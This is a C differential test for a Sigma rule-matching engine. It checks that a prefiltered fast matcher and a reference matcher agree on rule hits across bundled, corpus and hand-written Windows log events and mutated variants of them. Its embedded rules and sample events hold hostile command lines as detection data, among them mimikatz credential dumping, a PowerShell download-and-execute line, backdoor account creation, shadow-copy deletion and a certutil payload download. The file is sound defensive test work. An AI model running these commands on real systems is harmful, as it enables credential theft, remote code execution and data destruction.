/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_differential.c: differential test of the two matchers. vg_match_event (the reference
 * evaluator) and vg_match_event_fast (vectorscan literal prefilter, then the same rule
 * evaluation) must report the same rules in the same order for every event, with and
 * without a declared logsource. The prefilter may only skip rules that cannot match, so any
 * difference is a bug: the rule ids found by only one matcher are printed with the event.
 *
 * Rule sets and events:
 *  - bundled: rules/sigma over the records of rules/samples (framed and parsed as `vigil
 *    run` does: auto-detected formats, windows.json as JSON);
 *  - corpus: SigmaHQ's rules (../shared/sigma; skipped with a message when absent) over
 *    every event of its regression/ cases;
 *  - embedded: a small rule set written below that uses every value type and modifier
 *    (keywords, windash, all, base64offset, utf16, cased, numbers, re, cidr, exists, null,
 *    fieldref, neq, expand, dotted paths, "Threat Name"), over hand-written events; the
 *    rows of earlier findings belong here.
 *
 * Mutations: every event is turned into compact JSON (vg_event_to_json) and K variants are
 * made from it by tests/support/mutate.c (one or two edits of that text: case flips, cut
 * strings, inserted rule literals, swapped dashes, other number forms, wrapped values,
 * nulls, deleted, added or renamed members), then parsed again (a variant that does not
 * parse is skipped). The edits come from a fixed-seed generator, so every run compares the
 * same events. Originals and every 8th variant are also compared under the declared
 * logsources product=windows and product=windows,category=process_creation.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "fsutil.h"
#include "mutate.h"
#include "rulesrc.h"
#include "vigil/buf.h"
#include "vigil/match.h"
#include "vigil/parse.h"

#define SEED        0x7669676964696666ull
#define K_SAMPLES   48  /* variants per bundled sample event */
#define K_CORPUS    80  /* variants per regression event of the corpus */
#define K_EMBEDDED  300 /* variants per hand-written event */
#define DECL_EVERY  8   /* variants also compared under the declared logsources */
#define MAX_REPORTS 20  /* mismatches printed in full */
#define MAX_FILE    (64u << 20)

/* ---- one rule set, its events and what the mutations draw from ---- */

typedef struct evlist {
    char **v; /* compact JSON, NUL-terminated */
    size_t *len;
    size_t n, cap;
} evlist;

typedef struct stats {
    size_t events;      /* original events */
    size_t variants;    /* mutated events that parsed */
    size_t unparsable;  /* mutated events that did not parse (skipped) */
    size_t comparisons; /* matcher comparisons, declared logsources included */
    size_t hits;        /* rule matches (reference, no declared logsource) */
    size_t mismatches;
} stats;

typedef struct rset {
    vg_ruleset *rs;
    vg_diags *d;
    vg_logsource decl[2];
    vg_match_scratch *ref, *fast;
    uint32_t *h_ref, *h_fast;
    size_t cap;
    mut_pools *pools; /* what the mutations draw from: rules' literals, events' values */
    evlist events;
    vg_event *ev;
    stats st;
} rset;

static stats g_total;

static const char *const decl_specs[2] = {"product=windows",
                                          "product=windows,category=process_creation"};

/* Build the prefilter, the scratches and the pools of a finished rule set. */
static void rset_init(rset *r, vg_ruleset *rs, vg_diags *d)
{
    memset(r, 0, sizeof(*r));
    r->rs = rs;
    r->d = d;
    char err[256];
    if (vg_ruleset_build_prefilter(rs, err, sizeof(err)) != VG_OK)
        fail_msg("prefilter: %s", err);
    for (size_t i = 0; i < 2; i++)
        assert_int_equal(vg_logsource_parse(rs, decl_specs[i], &r->decl[i], err, sizeof(err)),
                         VG_OK);
    r->ref = vg_match_scratch_new(rs);
    r->fast = vg_match_scratch_new(rs);
    r->cap = vg_ruleset_count(rs) + 1;
    r->h_ref = calloc(r->cap, sizeof(uint32_t));
    r->h_fast = calloc(r->cap, sizeof(uint32_t));
    r->pools = mut_pools_new();
    r->ev = vg_event_new(NULL);
    assert_true(r->ref && r->fast && r->h_ref && r->h_fast && r->pools && r->ev);
    assert_int_equal(mut_pools_add_rules(r->pools, rs), 0);
}

static void rset_fini(rset *r)
{
    g_total.events += r->st.events;
    g_total.variants += r->st.variants;
    g_total.unparsable += r->st.unparsable;
    g_total.comparisons += r->st.comparisons;
    g_total.hits += r->st.hits;
    g_total.mismatches += r->st.mismatches;
    for (size_t i = 0; i < r->events.n; i++)
        free(r->events.v[i]);
    free(r->events.v);
    free(r->events.len);
    mut_pools_free(r->pools);
    vg_event_free(r->ev);
    free(r->h_ref);
    free(r->h_fast);
    vg_match_scratch_free(r->ref);
    vg_match_scratch_free(r->fast);
    vg_ruleset_free(r->rs);
    vg_diags_free(r->d);
}

/* ---- comparing the matchers ---- */

static bool listed(const uint32_t *v, size_t n, uint32_t x)
{
    for (size_t i = 0; i < n; i++)
        if (v[i] == x)
            return true;
    return false;
}

static void print_only(
        const rset *r, const char *what, const uint32_t *a, size_t na, const uint32_t *b, size_t nb)
{
    for (size_t i = 0; i < na; i++) {
        if (listed(b, nb, a[i]))
            continue;
        vg_rule_info info;
        vg_ruleset_rule_info(r->rs, a[i], &info);
        print_message("    only %s: %s (%s)\n", what, info.id, info.title);
    }
}

/* Run both matchers on an event indexed by vg_match_index: the fast one first, on the lean
 * index, then the reference on the completed one; on a difference print it and count it. */
static void compare(rset *r, vg_event *ev, int decl, const char *label)
{
    const vg_logsource *ls = decl >= 0 ? &r->decl[decl] : NULL;
    size_t n2 = vg_match_event_fast(r->rs, r->fast, ev, ls, r->h_fast, r->cap);
    assert_int_equal(vg_event_index(ev), VG_OK);
    size_t n1 = vg_match_event(r->rs, r->ref, ev, ls, r->h_ref, r->cap);
    r->st.comparisons++;
    if (decl < 0)
        r->st.hits += n1;
    if (n1 == n2 && memcmp(r->h_ref, r->h_fast, n1 * sizeof(uint32_t)) == 0)
        return;
    if (r->st.mismatches++ >= MAX_REPORTS)
        return;
    vg_buf b;
    vg_buf_init(&b, 0);
    vg_event_to_json(ev, &b);
    print_message("MISMATCH %s, declared logsource: %s\n  event: %.*s\n"
                  "  reference: %zu rules, fast: %zu rules\n",
                  label, ls ? decl_specs[decl] : "none", (int)b.len, b.len ? b.p : "", n1, n2);
    print_only(r, "reference", r->h_ref, n1, r->h_fast, n2);
    print_only(r, "fast", r->h_fast, n2, r->h_ref, n1);
    if (n1 == n2)
        print_message("    same rules, different order\n");
    vg_buf_fini(&b);
}

static void compare_all(rset *r, vg_event *ev, bool with_decl, const char *label)
{
    compare(r, ev, -1, label);
    if (with_decl) {
        compare(r, ev, 0, label);
        compare(r, ev, 1, label);
    }
}


/* ---- driving ---- */

/* Compare an original event, keep its compact JSON for the variants. */
static void add_event(rset *r, vg_event *ev, const char *label)
{
    assert_int_equal(vg_match_index(r->rs, ev), VG_OK);
    compare_all(r, ev, true, label);
    r->st.events++;
    vg_buf b;
    vg_buf_init(&b, 0);
    vg_event_to_json(ev, &b);
    assert_int_equal(vg_buf_status(&b), VG_OK);
    evlist *l = &r->events;
    if (l->n == l->cap) {
        l->cap = l->cap ? l->cap * 2 : 64;
        l->v = realloc(l->v, l->cap * sizeof(*l->v));
        l->len = realloc(l->len, l->cap * sizeof(*l->len));
        assert_true(l->v && l->len);
    }
    l->v[l->n] = vg_strndup(b.len ? b.p : "", b.len);
    l->len[l->n] = b.len;
    assert_non_null(l->v[l->n]);
    assert_int_equal(mut_pools_add_event(r->pools, l->v[l->n], b.len), 0);
    l->n++;
    vg_buf_fini(&b);
}

/* Frame and parse every record of a file; each one is an original event. */
static void add_file(rset *r, const char *path, vg_format fmt)
{
    char *text;
    size_t len;
    if (fs_read_file(path, MAX_FILE, &text, &len) != 0)
        fail_msg("cannot read %s", path);
    vg_event *ev = vg_event_new(NULL);
    assert_non_null(ev);
    size_t pos = 0, rec = 0;
    while (pos < len) {
        size_t start, rlen, used;
        vg_frame_result fr =
                vg_frame_next(fmt, text + pos, len - pos, true, MAX_FILE, &start, &rlen, &used);
        if (fr == VG_FRAME_NEED || used == 0)
            break;
        if (fr == VG_FRAME_RECORD) {
            vg_event_reset(ev);
            vg_perr perr = {0, NULL};
            rec++;
            if (vg_parse(fmt, ev, text + pos + start, rlen, NULL, &perr) == VG_OK) {
                char label[1300];
                snprintf(label, sizeof(label), "%s record %zu", path, rec);
                add_event(r, ev, label);
            } else {
                print_message("%s record %zu: parse error at %zu: %s\n", path, rec, perr.offset,
                              perr.msg ? perr.msg : "?");
            }
        }
        pos += used;
    }
    vg_event_free(ev);
    vg_free(text);
}

/* K variants of every event, compared. */
static void run_variants(rset *r, size_t k, uint64_t salt)
{
    vg_buf out;
    vg_buf_init(&out, 0);
    char label[96];
    for (size_t e = 0; e < r->events.n; e++) {
        mut_prng g = mut_prng_seed(SEED ^ salt, e);
        for (size_t v = 0; v < k; v++) {
            vg_buf_clear(&out);
            if (!mut_mutate(r->pools, &g, r->events.v[e], r->events.len[e], &out))
                continue;
            assert_int_equal(vg_buf_status(&out), VG_OK);
            vg_event_reset(r->ev);
            if (vg_parse_json(r->ev, out.p, out.len, NULL) != VG_OK ||
                vg_match_index(r->rs, r->ev) != VG_OK) {
                r->st.unparsable++;
                continue;
            }
            r->st.variants++;
            snprintf(label, sizeof(label), "event %zu variant %zu", e, v);
            compare_all(r, r->ev, v % DECL_EVERY == 0, label);
        }
    }
    vg_buf_fini(&out);
}

static void report(const char *name, const rset *r)
{
    print_message("%s: %zu rules, %zu events, %zu variants (%zu unparsable skipped), %zu "
                  "comparisons, %zu hits, %zu mismatches\n",
                  name, vg_ruleset_count(r->rs), r->st.events, r->st.variants, r->st.unparsable,
                  r->st.comparisons, r->st.hits, r->st.mismatches);
}

static const char *src_dir(void)
{
    const char *s = getenv("VIGIL_SRC");
    return s && *s ? s : ".";
}

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(const char *const *)a, *(const char *const *)b);
}

/* Every regular file of dir (ending in suffix, recursively when deep), sorted. */
static void list_files(const char *dir, const char *suffix, bool deep, fs_list *out, int depth)
{
    DIR *d = opendir(dir);
    if (!d || depth > 16) {
        if (d)
            closedir(d);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char p[2048];
        snprintf(p, sizeof(p), "%s/%s", dir, e->d_name);
        struct stat st;
        if (stat(p, &st) != 0)
            continue;
        size_t nl = strlen(e->d_name), sl = strlen(suffix);
        if (S_ISDIR(st.st_mode)) {
            if (deep)
                list_files(p, suffix, deep, out, depth + 1);
        } else if (S_ISREG(st.st_mode) && nl >= sl && strcmp(e->d_name + nl - sl, suffix) == 0) {
            if (out->n == out->cap) {
                out->cap = out->cap ? out->cap * 2 : 64;
                out->v = realloc(out->v, out->cap * sizeof(char *));
                assert_non_null(out->v);
            }
            out->v[out->n] = vg_strndup(p, strlen(p));
            assert_non_null(out->v[out->n++]);
        }
    }
    closedir(d);
    if (depth == 0 && out->n)
        qsort(out->v, out->n, sizeof(char *), cmp_str);
}

static void free_list(fs_list *l)
{
    for (size_t i = 0; i < l->n; i++)
        vg_free(l->v[i]);
    free(l->v);
}

/* ---- a: bundled rules over the bundled samples ---- */

static void test_bundled_rules_samples(void **state)
{
    (void)state;
    char path[1100];
    rsrc_opts o;
    memset(&o, 0, sizeof(o));
    snprintf(path, sizeof(path), "%s/rules/sigma", src_dir());
    o.paths[o.n_paths++] = path;
    vg_diags *d = vg_diags_new();
    size_t n_files = 0;
    vg_ruleset *rs = rsrc_load(&o, d, &n_files);
    assert_non_null(rs);
    assert_true(vg_ruleset_count(rs) > 0);
    rset r;
    rset_init(&r, rs, d);

    char dir[1100];
    snprintf(dir, sizeof(dir), "%s/rules/samples", src_dir());
    fs_list files = {0};
    list_files(dir, "", false, &files, 0);
    for (size_t i = 0; i < files.n; i++) {
        const char *base = strrchr(files.v[i], '/') + 1;
        add_file(&r, files.v[i], strcmp(base, "windows.json") == 0 ? VG_FMT_JSON : VG_FMT_AUTO);
    }
    free_list(&files);
    assert_true(r.st.events >= 100);
    run_variants(&r, K_SAMPLES, 0x1111);
    report("bundled rules x samples", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

/* ---- b: SigmaHQ corpus over its regression events ---- */

static void test_corpus_regression(void **state)
{
    (void)state;
    char root[1100];
    snprintf(root, sizeof(root), "%s/../shared/sigma", src_dir());
    struct stat st;
    if (stat(root, &st) != 0 || !S_ISDIR(st.st_mode)) {
        print_message("skipped: ../shared/sigma is not present beside the source tree\n");
        skip();
    }
    static const char *const dirs[] = {"rules", "rules-emerging-threats", "rules-threat-hunting",
                                       "rules-compliance", "rules-placeholder"};
    char paths[5][1200], ph[1100];
    rsrc_opts o;
    memset(&o, 0, sizeof(o));
    for (size_t i = 0; i < 5; i++) {
        snprintf(paths[i], sizeof(paths[i]), "%s/%s", root, dirs[i]);
        if (stat(paths[i], &st) == 0)
            o.paths[o.n_paths++] = paths[i];
    }
    snprintf(ph, sizeof(ph), "%s/tests/data/sigma_placeholders.yml", src_dir());
    o.placeholder_files[o.n_placeholder_files++] = ph;
    vg_diags *d = vg_diags_new();
    size_t n_files = 0;
    vg_ruleset *rs = rsrc_load(&o, d, &n_files);
    assert_non_null(rs);
    assert_true(vg_ruleset_count(rs) > 1000);
    rset r;
    rset_init(&r, rs, d);

    char reg[1200];
    snprintf(reg, sizeof(reg), "%s/regression", root);
    fs_list files = {0};
    list_files(reg, ".json", true, &files, 0);
    for (size_t i = 0; i < files.n; i++)
        add_file(&r, files.v[i], VG_FMT_JSON);
    free_list(&files);
    assert_true(r.st.events >= 100);
    run_variants(&r, K_CORPUS, 0x2222);
    report("corpus rules x regression events", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

/* ---- embedded rules over hand-written events ---- */

static const char embedded_rules[] =
        "title: keywords\nid: e0000000-0000-4000-8000-000000000001\n"
        "logsource: {product: windows}\n"
        "detection:\n  keywords: ['mimikatz', 'sekurlsa::', 'Invoke-Expression']\n"
        "  condition: keywords\n"
        "---\n"
        "title: windash and endswith\nid: e0000000-0000-4000-8000-000000000002\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  sel_img:\n    Image|endswith: ['\\cmd.exe', '\\powershell.exe', '\\cm?.exe']\n"
        "  sel_cli:\n    CommandLine|windash|contains: [' -enc ', ' /c ', ' -ep bypass']\n"
        "  condition: all of sel_*\n"
        "---\n"
        "title: all of values\nid: e0000000-0000-4000-8000-000000000003\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine|contains|all: ['net', 'user', '/add']\n"
        "  condition: sel\n"
        "---\n"
        "title: base64offset and utf16\nid: e0000000-0000-4000-8000-000000000004\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_a:\n    CommandLine|base64offset|contains: 'IEX ('\n"
        "  sel_b:\n    CommandLine|wide|base64offset|contains: 'Invoke-'\n"
        "  sel_c:\n    ScriptBlockText|base64|contains: 'whoami'\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: cased, numbers, booleans\nid: e0000000-0000-4000-8000-000000000005\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_cased:\n    Image|cased|contains: 'System32'\n"
        "  sel_num:\n    EventID: [4688, 1]\n    Enabled: true\n"
        "  sel_str:\n    EventID: '4104'\n"
        "  sel_cmp:\n    Level|gte: 3\n    Task|lt: 10\n"
        "  condition: sel_cased or sel_num or (sel_str and sel_cmp)\n"
        "---\n"
        "title: regex cidr\nid: e0000000-0000-4000-8000-000000000006\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_re:\n    CommandLine|re: '(?i)whoami\\s+/all'\n"
        "  sel_net:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']\n"
        "    DestinationPort: 445\n"
        "  condition: sel_re or sel_net\n"
        "---\n"
        "title: exists null fieldref\nid: e0000000-0000-4000-8000-000000000007\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_ex:\n    User|exists: true\n    ParentImage: null\n"
        "  sel_ref:\n    TargetUserName|fieldref: SubjectUserName\n"
        "  sel_refc:\n    CommandLine|fieldref|contains: Image\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: not and neq\nid: e0000000-0000-4000-8000-000000000008\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel:\n    Image|contains: 'rundll32'\n"
        "  neq:\n    Channel|neq: 'Security'\n"
        "  filter:\n    User|contains: ['SYSTEM', 'AUTHORI']\n"
        "  condition: (sel or neq) and not filter\n"
        "---\n"
        "title: spaced field and dotted paths\nid: e0000000-0000-4000-8000-000000000009\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_threat:\n    ThreatName|contains: 'Mimikatz'\n"
        "  sel_path:\n    Event.System.Channel: 'Microsoft-Windows-Sysmon/Operational'\n"
        "    Event.EventData.Image|contains: '\\Temp\\'\n"
        "  condition: sel_threat or sel_path\n"
        "---\n"
        "title: expand and general globs\nid: e0000000-0000-4000-8000-00000000000a\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_exp:\n    Computer|expand: '%Workstations%'\n"
        "  sel_glob:\n    TargetFilename: 'C:\\Users\\*\\AppData\\*.ps1'\n"
        "  sel_empty:\n    Description: ''\n    OriginalFileName: 'psexec.c'\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: keywords all and startswith\nid: e0000000-0000-4000-8000-00000000000b\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  kw_all:\n    '|all': ['invoke', 'bypass']\n"
        "  kw_start:\n    '|startswith': 'C:\\ProgramData\\'\n"
        "  condition: kw_all or kw_start\n"
        "---\n"
        "title: two of and anything\nid: e0000000-0000-4000-8000-00000000000c\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  s1:\n    CommandLine|contains: 'vssadmin'\n"
        "  s2:\n    CommandLine|contains: 'delete'\n"
        "  s3:\n    CommandLine|contains: 'shadows'\n"
        "  s4:\n    ParentImage: '*'\n"
        "  condition: 2 of s* and s4\n"
        "---\n"
        "title: filtered\nid: e0000000-0000-4000-8000-00000000000d\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n"
        "    CommandLine|contains: ['urlcache', 'verifyctl']\n  condition: sel\n"
        "---\n"
        "title: filter for the filtered rule\nid: e0000000-0000-4000-8000-00000000000e\n"
        "logsource: {product: windows, category: process_creation}\n"
        "filter:\n  rules: [e0000000-0000-4000-8000-00000000000d]\n"
        "  selection:\n    User|contains: 'adm_'\n  condition: selection\n"
        /* numbers and booleans as the only literals: they also match other spellings */
        "---\n"
        "title: event ids only\nid: e0000000-0000-4000-8000-00000000000f\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    EventID: [4688, 1116, 3]\n  condition: sel\n"
        "---\n"
        "title: port only\nid: e0000000-0000-4000-8000-000000000010\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    DestinationPort: 445\n  condition: sel\n"
        "---\n"
        "title: boolean only\nid: e0000000-0000-4000-8000-000000000011\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    Enabled: true\n  condition: sel\n"
        "---\n"
        "title: number keyword\nid: e0000000-0000-4000-8000-000000000012\n"
        "logsource: {product: windows}\n"
        "detection:\n  keywords: [4625, '0xc000006a']\n  condition: keywords\n";

/* Hand-written events; rows of earlier findings go at the end. */
static const char *const embedded_events[] = {
        "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-"
        "Sysmon\"}},\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
        "\"Computer\":\"ws-0042.corp.local\",\"Level\":4,\"Task\":1},\"EventData\":{\"Image\":"
        "\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd.exe /c whoami /all\","
        "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\alice\","
        "\"OriginalFileName\":\"Cmd.Exe\"}}}",
        "{\"Event\":{\"System\":{\"EventID\":{\"#attributes\":{\"Qualifiers\":16384},\"#text\":"
        "4688},\"Channel\":\"Security\",\"Computer\":\"dc01\"},\"EventData\":{\"NewProcessName\":"
        "\"C:\\\\Windows\\\\System32\\\\net.exe\",\"CommandLine\":\"net user backdoor P@ss /add\","
        "\"SubjectUserName\":\"alice\",\"TargetUserName\":\"alice\"}}}",
        "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"Computer\":"
        "\"ws-7\",\"Level\":5,\"Task\":2,\"ScriptBlockText\":\"d2hvYW1p; Invoke-Expression (New-"
        "Object Net.WebClient).DownloadString('http://x/a')\",\"CommandLine\":\"powershell -ep "
        "bypass -enc SQBFAFgAIAAoA\"}",
        "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":3,"
        "\"computer_name\":\"ws-9\"},\"DestinationIp\":\"10.1.2.3\",\"DestinationPort\":\"445\","
        "\"Image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\rundll32.exe\",\"User\":"
        "\"NT AUTHORITY\\\\SYSTEM\"}",
        "{\"Threat Name\":\"HackTool:Win32/Mimikatz.D\",\"EventID\":1116,\"Channel\":\"Microsoft-"
        "Windows-Windows Defender/Operational\",\"Computer\":\"ws-3\",\"Path\":\"C:\\\\ProgramData"
        "\\\\m.exe\",\"tags\":[\"sekurlsa::logonpasswords\",7,true,null]}",
        "{\"Image\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\",\"CommandLine\":\"vssadmin.exe "
        "Delete Shadows /All /Quiet\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
        "\"EventID\":\"0x1250\",\"Channel\":\"Security\",\"Computer\":\"fs01\",\"Enabled\":true}",
        "{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/"
        "Operational\",\"Computer\":\"srv\"},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32"
        "\\\\certutil.exe\",\"CommandLine\":\"certutil \\u2013urlcache -f http://a/b c.exe\","
        "\"User\":\"CORP\\\\adm_backup\",\"TargetFilename\":\"C:\\\\Users\\\\x\\\\AppData\\\\"
        "Roaming\\\\a.ps1\",\"Description\":\"\"}}}",
        "{\"message\":\"Accepted password for root from 10.9.8.7 port 22 ssh2\",\"host\":"
        "\"bastion\",\"program\":\"sshd\",\"kv\":{\"user\":\"root\"},\"n\":[1,[2,[3]]],\"o\":{},"
        "\"e\":[]}",
        "{\"EventID\":4625,\"Channel\":\"Security\",\"Computer\":\"dc02\",\"LogonType\":3,"
        "\"Status\":\"0xc000006d\",\"SubStatus\":\"0xC000006A\",\"TargetUserName\":\"admin\","
        "\"IpAddress\":\"fe80::1\",\"IpPort\":\"-\",\"Enabled\":\"TRUE\"}",
};

static void test_embedded_rules(void **state)
{
    (void)state;
    vg_ruleset *rs = vg_ruleset_new();
    vg_diags *d = vg_diags_new();
    assert_true(rs && d);
    static const char *const mapping[] = {"logsources.yml", "fields.yml"};
    for (size_t i = 0; i < 2; i++) {
        char path[1100];
        snprintf(path, sizeof(path), "%s/rules/%s", src_dir(), mapping[i]);
        char *text;
        size_t len;
        if (fs_read_file(path, MAX_FILE, &text, &len) != 0)
            fail_msg("cannot read %s", path);
        vg_status rc = i == 0 ? vg_ruleset_add_logsources(rs, path, text, len, d)
                              : vg_ruleset_add_fieldmap(rs, path, text, len, d);
        assert_int_equal(rc, VG_OK);
        vg_free(text);
    }
    static const char *const ws[] = {"ws-*", "srv"};
    assert_int_equal(vg_ruleset_set_placeholder(rs, "Workstations", ws, 2), VG_OK);
    assert_int_equal(
            vg_ruleset_add_rules(rs, "embedded.yml", embedded_rules, sizeof(embedded_rules) - 1, d),
            VG_OK);
    assert_int_equal(vg_ruleset_finish(rs, d), VG_OK);
    for (size_t i = 0; i < vg_diags_count(d); i++) {
        const vg_diag *g = vg_diags_get(d, i);
        if (g->sev == VG_SEV_ERROR)
            print_message("embedded.yml:%u:%u: %s [%s]\n", g->loc.line, g->loc.col, g->msg,
                          g->reason);
    }
    assert_int_equal(vg_diags_errors(d), 0);
    rset r;
    rset_init(&r, rs, d);
    vg_event *ev = vg_event_new(NULL);
    assert_non_null(ev);
    for (size_t i = 0; i < sizeof(embedded_events) / sizeof(embedded_events[0]); i++) {
        vg_event_reset(ev);
        const char *t = embedded_events[i];
        if (vg_parse_json(ev, t, strlen(t), NULL) != VG_OK)
            fail_msg("embedded event %zu does not parse", i);
        char label[64];
        snprintf(label, sizeof(label), "embedded event %zu", i);
        add_event(&r, ev, label);
    }
    vg_event_free(ev);
    run_variants(&r, K_EMBEDDED, 0x3333);
    report("embedded rules x hand-written events", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

static int teardown(void **state)
{
    (void)state;
    print_message("total: %zu events, %zu variants (%zu unparsable skipped), %zu comparisons, "
                  "%zu hits, %zu mismatches\n",
                  g_total.events, g_total.variants, g_total.unparsable, g_total.comparisons,
                  g_total.hits, g_total.mismatches);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_bundled_rules_samples),
            cmocka_unit_test(test_corpus_regression),
            cmocka_unit_test(test_embedded_rules),
    };
    return cmocka_run_group_tests_name("conformance/differential", tests, NULL, teardown);
}
